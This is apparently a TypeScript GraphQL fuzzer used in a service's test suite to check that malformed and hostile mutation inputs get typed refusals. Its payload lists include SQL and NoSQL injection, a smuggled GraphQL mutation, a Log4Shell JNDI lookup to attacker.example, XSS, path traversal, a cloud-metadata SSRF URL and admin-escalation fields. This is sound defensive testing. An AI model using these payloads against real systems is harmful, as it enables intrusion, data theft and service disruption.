/**
 * A schema-driven input fuzzer for GraphQL mutations (pure: no I/O). From the composed schema's
 * introspection it builds, for a mutation `name(input: XInput!)`, a plausible input (ids taken
 * from a seeded world, values shaped after the field names) and then, deterministically from a
 * seed, hostile variants of it: wrong types, nulls, missing required fields, unknown fields and
 * enum values, 1 MB strings, unicode (emoji, right-to-left, NUL, lone surrogates), negative and
 * huge numbers, NaN-ish strings, SQL/NoSQL/GraphQL injection strings, and the ids of other
 * users' objects. `classify` turns an answer into an outcome the tier asserts on.
 */

// ---- the schema, as introspection gives it --------------------------------------------------------

export interface TypeRef {
  kind: string;
  name: string | null;
  ofType: TypeRef | null;
}

export interface IntrospectedField {
  name: string;
  type: TypeRef;
  args?: { name: string; type: TypeRef }[];
  defaultValue?: string | null;
}

export interface IntrospectedType {
  kind: string;
  name: string;
  fields?: IntrospectedField[] | null;
  inputFields?: IntrospectedField[] | null;
  enumValues?: { name: string }[] | null;
}

/** What the fuzzer reads from the gateway (the PM may introspect in NODE_ENV=test). */
export const SCHEMA_QUERY = `query FuzzSchema {
  __schema {
    mutationType { name }
    types {
      kind name
      fields { name type { ...T } args { name type { ...T } } }
      inputFields { name type { ...T } defaultValue }
      enumValues { name }
    }
  }
}
fragment T on __Type { kind name ofType { kind name ofType { kind name ofType { kind name ofType { kind name } } } } }`;

export class FuzzSchema {
  private readonly types = new Map<string, IntrospectedType>();
  readonly mutationTypeName: string;

  constructor(schema: { mutationType: { name: string } | null; types: IntrospectedType[] }) {
    for (const t of schema.types) this.types.set(t.name, t);
    if (!schema.mutationType) throw new Error('the schema has no mutations');
    this.mutationTypeName = schema.mutationType.name;
  }

  type(name: string): IntrospectedType {
    const t = this.types.get(name);
    if (!t) throw new Error(`unknown type ${name}`);
    return t;
  }

  /** Every mutation taking one `input` argument (CONVENTIONS: mutations take exactly one, `input`). */
  mutations(): MutationShape[] {
    return this.mutationFields()
      .filter((f) => (f.args ?? []).length > 0)
      .map((f) => {
        const input = f.args?.find((a) => a.name === 'input');
        if (!input || f.args!.length > 1) {
          throw new Error(`mutation ${f.name} takes other arguments than input: teach the fuzzer to generate them`);
        }
        return {
          name: f.name,
          inputType: printType(input.type),
          inputTypeName: namedType(input.type),
          selection: this.selectionFor(f.type),
        };
      });
  }

  /** Mutations without arguments (nothing to fuzz: `createCalendarFeed`). */
  mutationsWithoutArguments(): string[] {
    return this.mutationFields()
      .filter((f) => (f.args ?? []).length === 0)
      .map((f) => f.name);
  }

  private mutationFields(): IntrospectedField[] {
    return this.type(this.mutationTypeName).fields ?? [];
  }

  /** `{ __typename id }` (id when the returned type has one): enough to see the answer, cheap to resolve. */
  private selectionFor(ref: TypeRef): string {
    const t = this.types.get(namedType(ref));
    if (!t || (t.kind !== 'OBJECT' && t.kind !== 'INTERFACE')) return '';
    const hasId = (t.fields ?? []).some((f) => f.name === 'id');
    return `{ __typename${hasId ? ' id' : ''} }`;
  }
}

export interface MutationShape {
  name: string;
  /** The argument's type as written in a document, e.g. `ScheduleCohortInput!`. */
  inputType: string;
  inputTypeName: string;
  selection: string;
}

export function namedType(ref: TypeRef): string {
  let t: TypeRef | null = ref;
  while (t && !t.name) t = t.ofType;
  return t!.name!;
}

export function printType(ref: TypeRef): string {
  if (ref.kind === 'NON_NULL') return `${printType(ref.ofType!)}!`;
  if (ref.kind === 'LIST') return `[${printType(ref.ofType!)}]`;
  return ref.name!;
}

export function documentFor(m: MutationShape): string {
  return `mutation Fuzz($input: ${m.inputType}) { ${m.name}(input: $input) ${m.selection} }`;
}

// ---- a seeded generator ---------------------------------------------------------------------------

/** mulberry32: small, fast, and the same sequence for the same seed on every machine. */
export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(maxExclusive: number): number {
    return Math.floor(this.next() * maxExclusive);
  }

  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from an empty list');
    return items[this.int(items.length)]!;
  }

  chance(p: number): boolean {
    return this.next() < p;
  }
}

/** A stable 32-bit hash of a string (FNV-1a): one sub-seed per mutation, so adding one changes no other's inputs. */
export function hashSeed(text: string, seed: number): number {
  let h = (0x811c9dc5 ^ seed) >>> 0;
  for (let i = 0; i < text.length; i++) {
    h ^= text.charCodeAt(i);
    h = Math.imul(h, 0x01000193) >>> 0;
  }
  return h;
}

// ---- hostile values -------------------------------------------------------------------------------

export const ONE_MB_STRING = 'x'.repeat(1_000_000);

/** Strings an attacker tries in any text field (the 1 MB ones are used sparingly, see `generateInputs`). */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\n\r',
  'a',
  'x'.repeat(1001),
  'x'.repeat(10_001),
  '👩‍💻🚀🔥',
  '😀'.repeat(500),
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  'שלום',
  '漢字テスト',
  'e\u0301\u0301\u0301',
  'a\u0000b',
  '\u0000',
  '\u0001\u0007\u001b[31m\u007f',
  '\ud800',
  '\udfff\ud800',
  '\uFEFF',
  "' OR '1'='1",
  "'; DROP TABLE cohorts; --",
  '1; SELECT pg_sleep(10)--',
  '" OR ""="',
  '{"$gt": ""}',
  '{"$where": "sleep(1000)"}',
  '") { id } } mutation { cancelCohort(input: {cohortId: "x"}) { id } } #',
  '{ __schema { types { name } } }',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  'null',
  'undefined',
  'true',
  '0x7fffffff',
  '2031-02-30',
  '0000-00-00',
  '9999-12-31',
  '1970-01-01',
  '2031-06-02T25:61:00Z',
  '2031-06-02T10:00:00',
  'Europe/Nowhere',
  'UTC',
  'mailto:x@example.com',
  'javascript:alert(1)',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
];

export const HOSTILE_INTS: readonly number[] = [
  0, -1, 1, -2_147_483_648, 2_147_483_647, 13, 14, 53, 101, 1001, 10_000, 99_999, -100,
];

/** JSON values of the wrong kind for a scalar field, and numbers GraphQL's Int refuses. */
export const WRONG_TYPES: readonly unknown[] = [
  'ten',
  '12',
  12,
  1.5,
  1e20,
  -1e20,
  true,
  false,
  {},
  { $gt: '' },
  [],
  ['a', 'b'],
  [null],
];

/** Ids of the seeded world, by what they name (`cohortId` ← `cohort`, `ids` ← any). */
export type IdPools = Record<string, string[]>;

/** Which pool an ID field draws from: `cohortId`, `internIds`, `panelMentorIds` → cohort, intern, mentor. */
export function poolFor(field: string): string {
  const f = field.toLowerCase();
  for (const kind of ['cohort', 'intern', 'mentor', 'project', 'milestone', 'report', 'slot', 'talk', 'task', 'feed']) {
    if (f.includes(kind)) return kind;
  }
  return 'any';
}

const HOSTILE_IDS: readonly string[] = [
  '',
  ' ',
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  "' OR '1'='1",
  'a\u0000b',
  'x'.repeat(10_000),
  '../../admin',
  '%',
  '*',
  '👩‍💻',
  '-1',
  '1e309',
];

// ---- plausible values -----------------------------------------------------------------------------

export interface Plausible {
  /** A date in the world's future (the cohorts start then), YYYY-MM-DD: a Monday. */
  monday: string;
  pools: IdPools;
}

function plausibleString(field: string, ctx: Plausible, rng: Rng): string {
  const f = field.toLowerCase();
  if (f.includes('email')) return 'someone@example.com';
  if (f.includes('timezone')) return rng.pick(['Europe/Berlin', 'America/New_York', 'Asia/Tokyo']);
  if (f === 'startdate' || f.endsWith('on') || f.endsWith('date')) return ctx.monday;
  if (f.endsWith('at')) return `${ctx.monday}T14:00:00.000Z`;
  if (f.includes('url') || f === 'links') return 'https://example.com/x';
  if (f.includes('target')) return '≥ 0.8';
  return rng.pick(['Fuzz text', 'A title', 'Notes', 'Recommender systems']);
}

function plausibleInt(field: string, rng: Rng): number {
  const f = field.toLowerCase();
  if (f === 'weeks' && rng.chance(0.5)) return 12;
  if (f.includes('week')) return rng.pick([1, 2, 4, 8]);
  if (f.includes('capacity')) return rng.pick([1, 5, 10]);
  if (f.includes('minutes')) return rng.pick([15, 30, 60]);
  if (f.includes('revision')) return rng.pick([1, 2]);
  if (f.includes('score') || f.includes('nps')) return rng.pick([1, 3, 5, 8]);
  return rng.pick([1, 2, 3]);
}

function plausibleId(field: string, ctx: Plausible, rng: Rng): string {
  const pool = ctx.pools[poolFor(field)] ?? [];
  return pool.length ? rng.pick(pool) : rng.pick(ctx.pools.any ?? ['00000000-0000-4000-8000-000000000000']);
}

/** A value of the type that GraphQL accepts and that looks like what a client would send. */
export function plausibleValue(schema: FuzzSchema, ref: TypeRef, field: string, ctx: Plausible, rng: Rng): unknown {
  if (ref.kind === 'NON_NULL') return plausibleValue(schema, ref.ofType!, field, ctx, rng);
  if (ref.kind === 'LIST') {
    const n = 1 + rng.int(2);
    return Array.from({ length: n }, () => plausibleValue(schema, ref.ofType!, field, ctx, rng));
  }
  const t = schema.type(ref.name!);
  if (t.kind === 'ENUM') return rng.pick(t.enumValues!.map((v) => v.name));
  if (t.kind === 'INPUT_OBJECT') {
    const value: Record<string, unknown> = {};
    for (const f of t.inputFields ?? []) {
      if (f.type.kind === 'NON_NULL' || rng.chance(0.6))
        value[f.name] = plausibleValue(schema, f.type, f.name, ctx, rng);
    }
    return value;
  }
  switch (t.name) {
    case 'ID':
      return plausibleId(field, ctx, rng);
    case 'Int':
      return plausibleInt(field, rng);
    case 'Float':
      return rng.pick([0.5, 0.84, 1]);
    case 'Boolean':
      return rng.chance(0.5);
    default:
      return plausibleString(field, ctx, rng);
  }
}

// ---- hostile variants ---------------------------------------------------------------------------

/** A place in an input: the path to it, and the type of the value there. */
interface Slot {
  path: (string | number)[];
  type: TypeRef;
  field: string;
  present: boolean;
}

function slotsOf(schema: FuzzSchema, value: unknown, ref: TypeRef, path: (string | number)[], field: string): Slot[] {
  const here: Slot = { path, type: ref, field, present: true };
  const inner = ref.kind === 'NON_NULL' ? ref.ofType! : ref;
  if (value === null || value === undefined) return [here];
  if (inner.kind === 'LIST') {
    const items = value as unknown[];
    return [here, ...items.flatMap((item, i) => slotsOf(schema, item, inner.ofType!, [...path, i], field))];
  }
  const t = schema.type(inner.name!);
  if (t.kind !== 'INPUT_OBJECT') return [here];
  const object = value as Record<string, unknown>;
  const out: Slot[] = [here];
  for (const f of t.inputFields ?? []) {
    if (f.name in object) out.push(...slotsOf(schema, object[f.name], f.type, [...path, f.name], f.name));
    else out.push({ path: [...path, f.name], type: f.type, field: f.name, present: false });
  }
  return out;
}

function setAt(root: unknown, path: (string | number)[], value: unknown): unknown {
  if (path.length === 0) return value;
  const copy: any = Array.isArray(root) ? [...root] : { ...(root as object) };
  const [head, ...rest] = path;
  copy[head as any] = setAt(copy[head as any], rest, value);
  return copy;
}

function deleteAt(root: unknown, path: (string | number)[]): unknown {
  if (path.length === 1) {
    const copy: any = Array.isArray(root) ? [...root] : { ...(root as object) };
    if (Array.isArray(copy)) copy.splice(path[0] as number, 1);
    else delete copy[path[0] as string];
    return copy;
  }
  const copy: any = Array.isArray(root) ? [...root] : { ...(root as object) };
  copy[path[0] as any] = deleteAt(copy[path[0] as any], path.slice(1));
  return copy;
}

function scalarName(schema: FuzzSchema, ref: TypeRef): { kind: string; name: string } {
  const inner = ref.kind === 'NON_NULL' ? ref.ofType! : ref;
  if (inner.kind === 'LIST') return { kind: 'LIST', name: '' };
  const t = schema.type(inner.name!);
  return { kind: t.kind, name: t.name };
}

/** A hostile value GraphQL still accepts for the slot's type (so it reaches the service). */
function hostileOfType(schema: FuzzSchema, slot: Slot, ctx: Plausible, rng: Rng, allowHuge: boolean): unknown {
  const { kind, name } = scalarName(schema, slot.type);
  if (kind === 'LIST') {
    const inner = (slot.type.kind === 'NON_NULL' ? slot.type.ofType! : slot.type).ofType!;
    switch (rng.int(4)) {
      case 0:
        return [];
      case 1: {
        const one = plausibleValue(schema, inner, slot.field, ctx, rng);
        return Array.from({ length: 1001 }, () => one);
      }
      case 2:
        return Array.from({ length: 3 }, () => hostileOfType(schema, { ...slot, type: inner }, ctx, rng, false));
      default: {
        const one = plausibleValue(schema, inner, slot.field, ctx, rng);
        return [one, one, one];
      }
    }
  }
  if (kind === 'ENUM') return rng.pick(schema.type(name).enumValues!.map((v) => v.name));
  if (kind === 'INPUT_OBJECT') return {};
  switch (name) {
    case 'ID': {
      const all = Object.values(ctx.pools).flat();
      return rng.chance(0.5) && all.length ? rng.pick(all) : rng.pick(HOSTILE_IDS);
    }
    case 'Int':
      return rng.pick(HOSTILE_INTS);
    case 'Float':
      return rng.pick([0, -1, 1e308, -1e308, 5e-324, 1e20]);
    case 'Boolean':
      return rng.chance(0.5);
    default:
      return allowHuge && rng.chance(0.5) ? ONE_MB_STRING : rng.pick(HOSTILE_STRINGS);
  }
}

export interface FuzzInput {
  /** What was done to the plausible input, e.g. `hostile milestones.0.dueWeek` (for the report). */
  label: string;
  /** The `$input` variable as sent; `undefined` means the variable is left out. */
  input: unknown;
}

const EXTRA_FIELDS: Record<string, unknown>[] = [
  { isAdmin: true },
  { roles: ['PROGRAM_MANAGER'] },
  { __typename: 'Cohort' },
  { id: '00000000-0000-0000-0000-000000000000' },
];

const WHOLE_INPUTS: readonly unknown[] = [undefined, null, {}, [], 'input', 42, true, [{}]];

/**
 * `count` inputs for one mutation, the same for the same seed. A fixed rotation of strategies
 * guarantees each is used (a few 1 MB strings per mutation, not more: they cost bandwidth), the
 * rest is drawn from the seeded generator.
 */
export function generateInputs(
  schema: FuzzSchema,
  mutation: MutationShape,
  ctx: Plausible,
  options: { seed: number; count: number; hugeStrings?: number },
): FuzzInput[] {
  const rng = new Rng(hashSeed(mutation.name, options.seed));
  const inputRef: TypeRef = {
    kind: 'NON_NULL',
    name: null,
    ofType: { kind: 'INPUT_OBJECT', name: mutation.inputTypeName, ofType: null },
  };
  const hugeBudget = options.hugeStrings ?? 3;
  let huge = 0;
  const out: FuzzInput[] = [];
  const strategies = [
    'plausible',
    'hostile',
    'hostile',
    'hostile',
    'wrong-type',
    'null',
    'missing',
    'enum',
    'extra',
    'other-id',
    'multi',
    'whole',
    'hostile',
    'other-id',
  ] as const;
  for (let i = 0; i < options.count; i++) {
    const base = plausibleValue(schema, inputRef, 'input', ctx, rng) as Record<string, unknown>;
    const slots = slotsOf(schema, base, inputRef, [], 'input').filter((s) => s.path.length > 0);
    const present = slots.filter((s) => s.present);
    const strategy = strategies[i % strategies.length]!;
    const mutate = (value: unknown, kind: (typeof strategies)[number]): FuzzInput => {
      switch (kind) {
        case 'plausible':
          return { label: 'plausible', input: value };
        case 'hostile': {
          const scalars = present.filter((s) => scalarName(schema, s.type).kind !== 'INPUT_OBJECT');
          const slot = rng.pick(scalars.length ? scalars : slots);
          const allowHuge = huge < hugeBudget && scalarName(schema, slot.type).name === 'String';
          const v = hostileOfType(schema, slot, ctx, rng, allowHuge);
          if (v === ONE_MB_STRING) huge++;
          const shown =
            typeof v === 'string' && v.length > 60 ? `<${v.length} chars>` : JSON.stringify(v)?.slice(0, 60);
          return { label: `hostile ${slot.path.join('.')}=${shown}`, input: setAt(value, slot.path, v) };
        }
        case 'wrong-type': {
          const slot = rng.pick(slots);
          const v = rng.pick(WRONG_TYPES);
          return { label: `wrong-type ${slot.path.join('.')}=${JSON.stringify(v)}`, input: setAt(value, slot.path, v) };
        }
        case 'null': {
          const slot = rng.pick(slots);
          return { label: `null ${slot.path.join('.')}`, input: setAt(value, slot.path, null) };
        }
        case 'missing': {
          const required = present.filter((s) => s.type.kind === 'NON_NULL' && typeof s.path.at(-1) === 'string');
          const slot = rng.pick(required.length ? required : present.length ? present : slots);
          return { label: `missing ${slot.path.join('.')}`, input: slot.present ? deleteAt(value, slot.path) : value };
        }
        case 'enum': {
          const enums = slots.filter((s) => scalarName(schema, s.type).kind === 'ENUM');
          if (!enums.length) return mutate(value, 'wrong-type');
          const slot = rng.pick(enums);
          const valid = schema.type(scalarName(schema, slot.type).name).enumValues!.map((v) => v.name);
          const v = rng.pick(['NOT_A_VALUE', valid[0]!.toLowerCase(), '', ` ${valid[0]}`, '__proto__', 0]);
          return { label: `enum ${slot.path.join('.')}=${JSON.stringify(v)}`, input: setAt(value, slot.path, v) };
        }
        case 'extra': {
          const extra = rng.pick(EXTRA_FIELDS);
          return { label: `extra ${Object.keys(extra)[0]}`, input: { ...(value as object), ...extra } };
        }
        case 'other-id': {
          const ids = present.filter((s) => scalarName(schema, s.type).name === 'ID');
          const all = Object.values(ctx.pools).flat();
          if (!ids.length || !all.length) return mutate(value, 'hostile');
          const slot = rng.pick(ids);
          return { label: `other-id ${slot.path.join('.')}`, input: setAt(value, slot.path, rng.pick(all)) };
        }
        case 'whole': {
          const v = rng.pick(WHOLE_INPUTS);
          return { label: `whole input=${JSON.stringify(v) ?? 'absent'}`, input: v };
        }
        case 'multi': {
          let current: FuzzInput = { label: 'multi', input: value };
          for (let k = 0; k < 3; k++) {
            const next = mutate(current.input, rng.pick(['hostile', 'hostile', 'wrong-type', 'null', 'other-id']));
            current = { label: `${current.label}; ${next.label}`, input: next.input };
          }
          return current;
        }
      }
    };
    out.push(mutate(base, strategy));
  }
  return out;
}

// ---- outcomes -------------------------------------------------------------------------------------

/** The refusals a client may get for a bad mutation: each names what went wrong. */
export const TYPED_REFUSALS = new Set([
  'BAD_USER_INPUT',
  'NOT_FOUND',
  'FORBIDDEN',
  'CONFLICT',
  'GRAPHQL_VALIDATION_FAILED',
  'GRAPHQL_PARSE_FAILED',
  'PAYLOAD_TOO_LARGE',
  'BAD_REQUEST',
]);

export interface Outcome {
  /** `ACCEPTED`, a typed code, or what is wrong (`HTTP_5xx`, `INTERNAL_SERVER_ERROR`, `NO_CODE`, …). */
  outcome: string;
  /** Set when the answer breaks a rule of the tier. */
  problem?: string;
}

/** Judges one answer to a fuzzed mutation. */
export function classify(status: number, body: any, mutation: string): Outcome {
  const errors = (body?.errors ?? []) as { message?: string; extensions?: { code?: string; fields?: unknown } }[];
  if (status >= 500) {
    return { outcome: `HTTP_${status}`, problem: `HTTP ${status}: ${JSON.stringify(body)?.slice(0, 300)}` };
  }
  if (errors.length === 0) {
    if (status === 200 && body?.data?.[mutation]) return { outcome: 'ACCEPTED' };
    return {
      outcome: 'NO_ANSWER',
      problem: `HTTP ${status} with neither data nor errors: ${JSON.stringify(body)?.slice(0, 300)}`,
    };
  }
  const codes = errors.map((e) => e.extensions?.code);
  const outcome = codes[0] ?? 'NO_CODE';
  for (const e of errors) {
    const code = e.extensions?.code;
    if (!code) return { outcome: 'NO_CODE', problem: `an error without a code: ${e.message}` };
    if (code === 'INTERNAL_SERVER_ERROR') return { outcome: code, problem: `INTERNAL_SERVER_ERROR: ${e.message}` };
    if (!TYPED_REFUSALS.has(code)) return { outcome: code, problem: `an unexpected code ${code}: ${e.message}` };
    if (code === 'BAD_USER_INPUT') {
      const fields = e.extensions?.fields;
      const named =
        Array.isArray(fields) &&
        fields.length > 0 &&
        fields.every((f) => typeof (f as { field?: unknown }).field === 'string' && (f as { field: string }).field);
      if (!named) return { outcome: code, problem: `BAD_USER_INPUT naming no field: ${e.message}` };
    }
  }
  if (body?.data?.[mutation])
    return { outcome, problem: `data and errors together: ${JSON.stringify(body).slice(0, 300)}` };
  return { outcome };
}

/** Every string in a value (the ids an accepted input named). */
export function stringsIn(value: unknown, into = new Set<string>()): Set<string> {
  if (typeof value === 'string') into.add(value);
  else if (Array.isArray(value)) for (const v of value) stringsIn(v, into);
  else if (value && typeof value === 'object') for (const v of Object.values(value)) stringsIn(v, into);
  return into;
}
